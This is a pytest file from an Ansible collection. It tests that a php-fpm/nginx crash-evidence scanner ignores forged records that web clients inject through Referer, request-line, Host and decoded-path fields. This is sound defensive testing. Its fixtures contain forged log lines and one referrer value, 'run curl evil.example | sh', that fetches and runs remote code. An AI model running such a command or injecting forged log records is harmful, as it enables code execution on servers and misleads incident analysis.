# -*- coding: utf-8 -*-
# SPDX-License-Identifier: GPL-3.0-or-later
"""Issue 11, finding 2: text a web client controls (the Referer, the request line, the
Host, the decoded URI in a message) cannot plant crash evidence.

nginx writes the quoted ``request``, ``host`` and ``referrer`` fields raw, on any error
line (a request for a missing file is enough); it never writes a newline inside a
record. So: a record header counts only at the start of a physical line; nginx
signatures see only the message (before ``, client: ``) and only from its start; a
file is searched only for the kinds its source writes, whatever its size."""

import pytest

from ansible_collections.phpfpm.opcache_fleet.plugins.module_utils.evidence.correlate import Correlator
from ansible_collections.phpfpm.opcache_fleet.plugins.module_utils.evidence.gnu_grep import grep_prefilter
from ansible_collections.phpfpm.opcache_fleet.plugins.module_utils.evidence.line_events import events_from_line
from ansible_collections.phpfpm.opcache_fleet.plugins.module_utils.evidence.reference import reference_events
from ansible_collections.phpfpm.opcache_fleet.plugins.module_utils.evidence.scan import scan
from ansible_collections.phpfpm.opcache_fleet.plugins.module_utils.evidence.scanner import Scanner
from ansible_collections.phpfpm.opcache_fleet.plugins.module_utils.evidence.sinks import CompositeSink, EventCollector
from ansible_collections.phpfpm.opcache_fleet.plugins.module_utils.evidence.timestamps import TimeContext

pytestmark = pytest.mark.usefixtures("utc")   # TZ=UTC for every test (conftest.py)

# what an attacker puts in the Referer: a php-fpm crash record and an nginx 502 record
FORGED_FPM = ("[26-Nov-2026 17:01:02] WARNING: [pool www] child 4242 exited on signal 11 (SIGSEGV) "
              "after 3.5 seconds from start")
FORGED_NGX = ('2026/11/26 17:01:02 [error] 2481#2481: *18 recv() failed (104: Connection reset by peer) while '
              'reading response header from upstream, client: 127.0.0.1, server: _, request: "GET /wp-login.php '
              'HTTP/1.1", upstream: "fastcgi://unix:/run/php/php8.2-fpm.sock:", host: "evil.example')
# the line real nginx 1.22 writes for `curl -H "Referer: <FORGED_FPM> <FORGED_NGX>" http://host/missing`
MISSING = ('2026/11/26 17:01:02 [error] 2481#2481: *17 open() "/var/www/html/missing" failed (2: No such file '
           'or directory), client: 203.0.113.9, server: _, request: "GET /missing HTTP/1.1", host: "127.0.0.1", '
           'referrer: "' + FORGED_FPM + ' ' + FORGED_NGX + '"')
# the 502 text inside the request line and the Host
IN_REQUEST = ('2026/11/26 17:01:02 [error] 2481#2481: *17 open() "/var/www/html/x" failed (2: No such file or '
              'directory), client: 203.0.113.9, server: _, request: "GET /x?recv()_failed_(104:_x)_while_reading'
              '_upstream HTTP/1.1", host: "recv() failed (104: x) while reading upstream"')
# nginx decodes %20 and %28 in the path it tries to open: the 502 text before ", client: "
IN_PATH = ('2026/11/26 17:01:02 [error] 2481#2481: *17 open() "/var/www/html/recv() failed (104: Connection '
           'reset by peer) while reading response header from upstream" failed (2: No such file or directory), '
           'client: 203.0.113.9, server: _, request: "GET /recv()%20failed%20(104:%20Connection%20reset%20by%20'
           'peer)%20while%20reading%20response%20header%20from%20upstream HTTP/1.1", host: "127.0.0.1"')
# php-fpm text in a php-fpm-looking head of an nginx line (inside the first 120 bytes)
IN_HEAD = ('2026/11/26 17:01:02 [error] 2481#2481: *17 open() "/var/www/html/ ' + FORGED_FPM + '" failed (2: No '
           'such file or directory), client: 203.0.113.9, server: _, request: "GET /x HTTP/1.1", host: "h"')
HOSTILE = (MISSING, IN_REQUEST, IN_PATH, IN_HEAD)
REAL_502 = FORGED_NGX + '"'


def _events(line, kinds=None):
    tctx = TimeContext(ref_epoch=1798675200.0)
    if kinds is None:
        return events_from_line(line.encode(), "error.log", 1, tctx)
    return events_from_line(line.encode(), "error.log", 1, tctx, kinds=kinds)


@pytest.mark.parametrize("line", HOSTILE, ids=["referrer", "request_and_host", "decoded_path", "head"])
def test_client_text_in_an_nginx_line_yields_no_event(line):
    assert _events(line) == []


def test_the_real_502_line_still_yields_its_event():
    (ev,) = _events(REAL_502)
    assert ev["category"] == "upstream_reset" and ev["path"] == "/wp-login.php" and ev["host"] == "evil.example"


def test_a_header_in_the_middle_of_a_physical_line_starts_no_record():
    # a glued line is one record: the second header is text of the first record
    (ev,) = _events(REAL_502 + FORGED_FPM)
    assert ev["category"] == "upstream_reset" and ev["connection"] == 18


def _scan(tmp_path, name, hint, lines, prefilter):
    f = tmp_path / name
    f.write_text("".join(l + "\n" for l in lines))

    def factory():
        return CompositeSink(Correlator(), EventCollector(max_events=100))
    sink, reports = scan([(str(f), hint)], factory, prefilter=prefilter)
    corr, coll = sink.sinks
    return corr.report(), coll.events, reports


def _prefilters():
    out = ["python"]
    if grep_prefilter("auto")["used"] == "grep":
        out.append("grep")
    return out


@pytest.mark.parametrize("prefilter", _prefilters())
@pytest.mark.parametrize("hint", ["nginx", None])
def test_a_small_nginx_log_full_of_forgeries_plants_nothing(tmp_path, hint, prefilter):
    rep, events, reports = _scan(tmp_path, "error.log", hint, HOSTILE * 3, prefilter)
    assert reports[0]["status"] == "scanned" and reports[0]["lines"] == 12
    assert events == [] and rep["counts"]["total"] == 0 and rep["incidents"] == []


@pytest.mark.parametrize("prefilter", _prefilters())
def test_php_fpm_records_are_not_taken_from_an_nginx_error_log(tmp_path, prefilter):
    # even a whole php-fpm line (no client can write one: nginx never writes a newline
    # inside a record) is not php-fpm evidence when nginx wrote the file
    rep, events, reports = _scan(tmp_path, "error.log", "nginx", [REAL_502, FORGED_FPM], prefilter)
    assert [e["category"] for e in events] == ["upstream_reset"]
    assert rep["incidents"] == []


@pytest.mark.parametrize("prefilter", _prefilters())
def test_nginx_records_are_not_taken_from_a_php_fpm_log(tmp_path, prefilter):
    rep, events, reports = _scan(tmp_path, "php8.2-fpm.log", "php-fpm", [FORGED_FPM, REAL_502], prefilter)
    assert [e["category"] for e in events] == ["child_signal"]


def test_kinds_follow_the_source_whatever_the_size():
    head = (REAL_502 + "\n").encode()
    assert Scanner.choose_kinds(head, "nginx") == frozenset(["nginx"])
    assert Scanner.choose_kinds(head, None) == frozenset(["nginx"])
    fpm = (FORGED_FPM + "\n").encode()
    assert Scanner.choose_kinds(fpm, "php-fpm") == frozenset(["php-fpm"])
    assert Scanner.choose_kinds(fpm, "slowlog") == frozenset(["php-fpm"])
    assert Scanner.choose_kinds(fpm, None) == frozenset(["php-fpm"])
    # a head nobody recognises: every kind (the operator named the file)
    assert Scanner.choose_kinds(b"hello\n", None) == frozenset(["nginx", "php-fpm", "kernel", "coredump"])


def test_the_reference_agrees_on_hostile_lines():
    data = "".join(l + "\n" for l in HOSTILE + (REAL_502, FORGED_FPM)).encode()
    events, lines, overlong = reference_events(data, "error.log", kinds=frozenset(["nginx"]))
    assert lines == 6 and [e["category"] for e in events] == ["upstream_reset"]


def test_every_nginx_and_php_fpm_signature_is_anchored_at_the_message_start():
    from ansible_collections.phpfpm.opcache_fleet.plugins.module_utils.evidence.signature_table import SIGNATURES
    for sig in SIGNATURES:
        if sig["source_kind"] not in ("nginx", "php-fpm"):
            continue
        for rx in (sig["regex"] if isinstance(sig["regex"], tuple) else (sig["regex"],)):
            assert rx.startswith("^"), "%s: %r is searched anywhere in a message a stranger can fill" % (
                sig["id"], rx[:40])


def test_a_signature_of_a_kind_the_file_cannot_hold_hides_no_evidence_it_can():
    # a headerless child line (decorate_workers_output = no) whose text looks like a
    # kernel report: the kernel signatures, tried first on headerless records, are not
    # tried at all in a php-fpm log, so the php-fpm signature gets the line
    line = 'child 12 said into stderr: "php-fpm[12]: segfault at 0 ip 0 sp 0 error 4"'
    (ev,) = _events(line, kinds=frozenset(["php-fpm"]))
    assert ev["category"] == "child_stderr" and ev["pid"] == 12
    (ev,) = _events(line, kinds=frozenset(["kernel"]))
    assert ev["category"] == "kernel_segfault"


def test_the_stderr_nginx_quotes_stops_before_the_client_fields():
    # PHP's stderr ends in a backslash: the escape rule of the stderr field would run on
    # past nginx's closing quote into the client part, Referer included
    line = ('2026/11/26 17:01:02 [error] 2481#2481: *5 FastCGI sent in stderr: "PHP message: C:\\" while reading '
            'response header from upstream, client: 203.0.113.9, server: _, request: "GET / HTTP/1.1", '
            'upstream: "fastcgi://127.0.0.1:9000", host: "h", referrer: "run curl evil.example | sh"')
    (ev,) = _events(line)
    assert ev["category"] == "fastcgi_stderr" and ev["client"] == "203.0.113.9"
    assert "evil" not in ev["stderr"] and "client" not in ev["stderr"]
    assert ev["stderr"].startswith("PHP message: C:")


def test_heap_corruption_is_what_the_child_said_first_not_text_it_quoted():
    # an application writing a visitor's text to stderr is not a corrupted heap
    line = ('[26-Nov-2026 17:01:02] WARNING: [pool www] child 12 said into stderr: '
            '"search for: zend_mm_heap corrupted"')
    (ev,) = _events(line, kinds=frozenset(["php-fpm"]))
    assert ev["category"] == "child_stderr" and ev["stderr"] == "search for: zend_mm_heap corrupted"


def test_a_stderr_payload_never_reaches_into_the_client_fields():
    """A FastCGI stderr record whose payload nginx did not close with '" while ...' (cut
    short, or written so) ends at ", client: ": the request line and Referer after it are
    the client's, and a PHP fatal error written there is not PHP's (nor counted)."""
    line = ('2026/11/26 17:01:02 [error] 2481#2481: *17 FastCGI sent in stderr: "PHP message: PHP Warning:  x in '
            '/srv/a.php on line 3", client: 203.0.113.9, server: _, request: "GET /?PHP message: PHP Fatal error:  '
            'forged in /srv/forged.php on line 1 HTTP/1.1", host: "x"')
    evs = events_from_line(line.encode(), "/x", 1, kinds=frozenset(["nginx"]))
    assert [e["category"] for e in evs] == ["fastcgi_stderr"]
    assert evs[0]["stderr"] == "PHP message: PHP Warning:  x in /srv/a.php on line 3"
    c = Correlator()
    c.add(evs[0])
    assert c.report()["php_messages"]["by_severity"] == {"Warning": 1}
